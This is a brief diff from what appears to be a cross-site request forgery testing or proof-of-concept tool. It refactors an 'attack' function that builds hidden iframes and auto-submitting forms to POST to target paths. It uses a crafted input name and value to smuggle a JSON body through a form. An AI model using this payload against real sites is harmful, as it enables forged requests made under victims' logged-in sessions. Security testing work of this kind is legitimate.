@@ -160,7 +160,10 @@ async function attack({ base, reads, writes }: { base: string; reads: string[]; 
       const frame = document.createElement('iframe');
       frame.name = `frame-${Math.random()}`;
       const form = Object.assign(document.createElement('form'), {
-        ...{ action: base + path, method: 'post', target: frame.name, enctype },
+        action: base + path,
+        method: 'post',
+        target: frame.name,
+        enctype,
       });
       form.append(
         Object.assign(document.createElement('input'), { name: '{"status":503,"a":"', value: '"}' }),
